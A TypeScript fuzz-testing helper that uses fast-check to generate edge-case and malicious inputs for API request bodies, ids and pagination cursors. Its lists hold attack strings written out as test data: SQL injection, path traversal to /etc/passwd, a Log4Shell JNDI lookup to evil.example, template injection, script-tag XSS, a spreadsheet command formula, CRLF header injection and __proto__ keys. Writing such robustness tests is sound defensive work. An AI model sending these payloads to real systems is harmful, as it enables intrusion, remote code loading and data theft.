import fc from 'fast-check'

/** Texts that have broken somebody's program before. */
const hostileTexts: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\uD800',
  '\uDFFF\uD800',
  '\u202Egnp.exe',
  '\u200B',
  '\uFDFA'.repeat(40),
  'İıſK',
  '１００',
  '٣',
  'e\u0301'.repeat(60),
  '👩‍👩‍👧‍👦'.repeat(20),
  "' or 1=1 --",
  "'; drop table users; --",
  '%00',
  '%',
  '../../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '=cmd|calc!A1',
  'a\r\nSet-Cookie: sid=x',
  '\\',
  '"',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-0',
  '-1',
  '0x10',
  '1e309',
  '1e3',
  '0.001',
  '9'.repeat(400),
  '999999999999.99',
  'x'.repeat(5000),
  '00000000-0000-0000-0000-000000000000',
  'pi_00000000',
  '2026-02-30',
  '0000-01-01',
  '9999-12-31',
  '0000-01-01T00:00:00Z',
  '0001-01-01T00:00:00+14:00',
  '9999-12-31T23:59:59-14:00',
  '3000-12-31T23:59:59.999999999-23:59',
  '__proto__',
  'constructor',
]

const hostileScalars: readonly unknown[] = [
  null,
  true,
  false,
  0,
  -0,
  -1,
  0.1,
  1e21,
  Number.MAX_SAFE_INTEGER + 2,
  Number.MIN_VALUE,
  [],
  {},
  [[]],
  [null],
  { length: 1 },
  { toString: 'x' },
  { valueOf: null },
  Array.from({ length: 1000 }, () => 0),
  Object.fromEntries(Array.from({ length: 1000 }, (_, index) => [`k${index}`, index])),
]

export const hostileText = fc.oneof(
  fc.constantFrom(...hostileTexts),
  fc.string({ unit: 'binary', maxLength: 60 }),
)

const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileText,
  fc.constantFrom(...hostileScalars),
  fc.jsonValue({ maxDepth: 3 }),
)

/** Those that each part of a body, each id and each query is tried with for certain. */
export const certainTexts: readonly string[] = [
  '',
  '\u0000',
  'a\u0000b@example.com',
  '\uD800',
  "'; drop table users; --",
  '9'.repeat(400),
  '%00',
  '__proto__',
  'x'.repeat(5000),
  '0000-01-01',
  '9999-12-31',
]
/** Well-formed cursors that name moments and days which no list has. */
export const certainCursors: readonly string[] = [
  ['0000-01-01'],
  ['0000-01-01', 'ffffffff-ffff-ffff-ffff-ffffffffffff'],
  ['9999-99-99', 'ffffffff-ffff-ffff-ffff-ffffffffffff'],
  ['9999999999999999', 'ffffffff-ffff-ffff-ffff-ffffffffffff'],
].map(position => Buffer.from(JSON.stringify(position)).toString('base64url'))
const certainValues: readonly unknown[] = [...certainTexts, null, 1e21, [], {}, { toString: 'x' }]

type Path = readonly string[]

function pathsOf(value: unknown, path: Path = []): Path[] {
  if (typeof value !== 'object' || value === null) return [path]
  return [path, ...Object.entries(value).flatMap(([key, inner]) => pathsOf(inner, [...path, key]))]
}

const GONE = Symbol('gone')

function put(value: unknown, [key, ...rest]: Path, to: unknown): unknown {
  if (key === undefined) return to
  if (typeof value !== 'object' || value === null) return value
  const entries = Object.entries(value).map(([name, inner]: [string, unknown]) => [
    name,
    name === key ? put(inner, rest, to) : inner,
  ])
  return Object.fromEntries(entries.filter(([, inner]) => inner !== GONE))
}

/** The body with each of its parts, one at a time, in each of these ways. */
export const certainBodies = (valid: object): unknown[] =>
  pathsOf(valid).flatMap(path => certainValues.map(value => put(valid, path, value)))

/** A body with one to three of its parts replaced or taken away; now and then the whole of it. */
export const hostileBody = (valid: object): fc.Arbitrary<unknown> => {
  const to = fc.oneof({ weight: 5, arbitrary: hostileValue }, { weight: 1, arbitrary: fc.constant(GONE) })
  const change = fc.record({ path: fc.constantFrom(...pathsOf(valid)), to })
  return fc
    .array(change, { minLength: 1, maxLength: 3 })
    .map(changes => changes.reduce<unknown>((body, { path, to: value }) => put(body, path, value), valid))
    .map(body => (body === GONE ? {} : body))
}
